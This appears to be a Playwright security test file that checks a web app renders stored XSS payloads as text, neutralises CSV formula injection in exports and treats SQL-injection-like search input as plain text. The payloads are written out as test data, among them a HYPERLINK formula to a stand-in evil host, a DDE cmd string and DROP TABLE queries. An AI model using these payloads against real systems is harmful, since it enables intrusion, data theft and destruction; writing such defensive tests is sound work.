import { randomUUID } from "node:crypto";
import { expect, test, type Page } from "@playwright/test";
import { aiAction, auth } from "../fixtures";
import { people, scopeKey } from "../people";
import { SignInPage } from "../ui/pages/sign-in-page";

// Stored hostile text on the way out: HTML and script in rationales, case ids and actor ids render as
// text on the explanation, case and search pages (no XSS); exports are attachments that are never
// sniffed as HTML, and CSV cells that a spreadsheet would run as formulas are neutralised; search
// input that looks like SQL is just text.

const tag = () => randomUUID().slice(0, 8);
const PAYLOADS = [
  "<script>window.__xss=1</script>",
  '<img src=x onerror="window.__xss=2">',
  '"><svg onload="window.__xss=3">',
  "javascript:window.__xss=4",
];

async function ingest(request: Parameters<Parameters<typeof test>[2]>[0]["request"], events: unknown[]) {
  const response = await request.post("/api/v1/events", { headers: { ...auth(), "content-type": "application/json" }, data: events });
  expect(response.status(), await response.text()).toBe(200);
}

/** Fails the test if anything the payloads would do happened in `page`. */
async function expectNothingRan(page: Page, dialogs: string[]) {
  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(await page.locator('img[src="x"], svg[onload]').count()).toBe(0);
  expect(await page.locator("script", { hasText: "__xss" }).count()).toBe(0);
}

test.describe("hostile output", () => {
  test("HTML and script stored in a rationale, a case id and an actor id render as text on the explanation, case and search pages", async ({ page, request }) => {
    const word = `xssprobe${tag()}`;
    const rationale = `${PAYLOADS.join(" ")} ${word} the parcel was lost.`;
    const caseId = `<img src=x onerror=window.__xss=5>-${tag()}`;
    const action = aiAction({
      caseId,
      actor: { type: "ai", id: "<b>agent</b><script>window.__xss=6</script>", version: "v<script>1</script>" },
      decision: { rationale, confidence: 0.7, alternatives: [{ action: "voucher.issue", whyNot: "<iframe src=javascript:window.__xss=7>" }] },
    });
    await ingest(request, [action]);

    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await new SignInPage(page).signIn(people().admin);

    await page.goto(`/actions/${action.id}?workspace=default`);
    await expect(page.getByText(PAYLOADS[0], { exact: false }).first()).toBeVisible();
    await expect(page.getByText(word, { exact: false }).first()).toBeVisible();
    await expectNothingRan(page, dialogs);

    await page.goto(`/cases/${encodeURIComponent(caseId)}?workspace=default`);
    await expect(page.getByText(caseId, { exact: false }).first()).toBeVisible();
    await expectNothingRan(page, dialogs);

    // The search snippet comes from PostgreSQL's ts_headline, whose parser drops tags: the words show, the markup does not.
    await page.goto(`/cases?workspace=default&query=${word}`);
    await expect(page.getByText(word).first()).toBeVisible();
    await expect(page.getByText(caseId).first()).toBeVisible();
    await expectNothingRan(page, dialogs);
  });

  test("exports are attachments never sniffed as HTML, carry stored HTML verbatim, and neutralise spreadsheet formulas in every CSV cell", async ({ request }) => {
    const caseId = `=HYPERLINK("http://evil.example/"&A1,"click")-${tag()}`;
    const events = [
      aiAction({ caseId, decision: { rationale: `${PAYLOADS[0]} =1+2 @SUM(A1:A9)` } }),
      aiAction({ caseId, customerRef: "+1-555-0100 cmd|' /C calc'!A0", actor: { type: "ai", id: "@SUM(1+1)*cmd|' /C calc'!A0", version: "-2+3" } }),
      aiAction({ caseId, actor: { type: "human", id: "\tTAB=1+1" } }),
      aiAction({ caseId, actor: { type: "human", id: "\rCR=1+1" } }),
    ];
    await ingest(request, events);
    const exporter = { authorization: `Bearer ${scopeKey("export")}` };

    const csv = await request.get(`/api/v1/exports/events?format=csv&case=${encodeURIComponent(caseId)}`, { headers: exporter });
    expect(csv.status()).toBe(200);
    expect(csv.headers()["content-type"]).toMatch(/^text\/csv/);
    expect(csv.headers()["content-disposition"]).toMatch(/^attachment;/);
    expect(csv.headers()["x-content-type-options"]).toBe("nosniff");
    const rows = parseCsv(await csv.text());
    const [header, ...data] = rows;
    expect(data).toHaveLength(events.length);
    // No cell of any row starts with a character that makes a spreadsheet evaluate it.
    for (const row of data) for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
    const column = (name: string) => header.indexOf(name);
    expect(data[0][column("case_id")]).toBe(`'${caseId}`);
    expect(data.map((r) => r[column("actor_id")])).toEqual(expect.arrayContaining([`'@SUM(1+1)*cmd|' /C calc'!A0`, "'\tTAB=1+1", "'\rCR=1+1"]));
    expect(data.map((r) => r[column("customer_ref")])).toContain(`'+1-555-0100 cmd|' /C calc'!A0`);
    // The hashed record is exported verbatim (it is evidence), HTML included, inside a quoted cell.
    expect(data.map((r) => r[column("record")]).join("\n")).toContain("<script>window.__xss=1</script>");

    const jsonl = await request.get(`/api/v1/exports/events?format=jsonl&case=${encodeURIComponent(caseId)}`, { headers: exporter });
    expect(jsonl.headers()["content-type"]).not.toMatch(/html/);
    expect(jsonl.headers()["content-disposition"]).toMatch(/^attachment;/);
    expect(jsonl.headers()["x-content-type-options"]).toBe("nosniff");
    const lines = (await jsonl.text()).trimEnd().split("\n").map((l) => JSON.parse(l));
    expect(lines.map((l) => l.record.event.decision?.rationale).filter(Boolean)[0]).toBe(`${PAYLOADS[0]} =1+2 @SUM(A1:A9)`);

    const explanation = await request.get(`/api/v1/events/${events[0].id}/explanation`, { headers: auth() });
    expect(explanation.status()).toBe(200);
    expect(explanation.headers()["content-type"]).toMatch(/^application\/json/);
  });

  test("search input that looks like SQL or query syntax is just text: no 5xx, nothing changes, a case id with quotes is found verbatim", async ({ request }) => {
    const caseId = `o'brien"; DROP TABLE events;-- ${tag()}`;
    await ingest(request, [aiAction({ caseId, decision: { rationale: "Robert'); DROP TABLE cases;-- asked for a refund of a lost parcel." } })]);
    const before = await (await request.post("/api/v1/ledger/verify", { headers: auth() })).json();
    const queries = [
      "' OR '1'='1",
      "'; DROP TABLE events; --",
      "1; SELECT pg_sleep(10)",
      "%",
      "_",
      "\\",
      "$$",
      "') OR 1=1 --",
      "!!! :* & | <-> (",
      '"unterminated',
      "' UNION SELECT record FROM events --",
      "Robert'); DROP TABLE cases;--",
      "x".repeat(500),
    ];
    for (const query of queries) {
      const started = Date.now();
      const response = await request.get(`/api/v1/cases?query=${encodeURIComponent(query)}`, { headers: auth() });
      expect(response.status(), query).toBe(200);
      expect(Date.now() - started, query).toBeLessThan(5000);
      const { cases } = await response.json();
      expect(Array.isArray(cases)).toBe(true);
    }
    const exact = await (await request.get(`/api/v1/cases?query=${encodeURIComponent(caseId)}`, { headers: auth() })).json();
    expect(exact.cases.map((c: { caseId: string }) => c.caseId)).toEqual([caseId]);
    expect(exact.cases[0].matchedOn).toBe("case");
    const words = await (await request.get(`/api/v1/cases?query=${encodeURIComponent("Robert'); DROP TABLE cases;--")}`, { headers: auth() })).json();
    expect(words.cases.map((c: { caseId: string }) => c.caseId)).toContain(caseId);
    // Past its limit, and with a NUL character, the query is refused or answered — never a 5xx.
    expect((await request.get(`/api/v1/cases?query=${"x".repeat(501)}`, { headers: auth() })).status()).toBe(400);
    expect((await request.get(`/api/v1/cases?query=a%00b`, { headers: auth() })).status()).toBeLessThan(500);
    const after = await (await request.post("/api/v1/ledger/verify", { headers: auth() })).json();
    expect(after).toMatchObject({ ok: true });
    expect(after.checked).toBeGreaterThanOrEqual(before.checked);
  });
});

/** RFC 4180: quoted fields may hold commas, quotes (doubled) and line breaks; records end with CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}
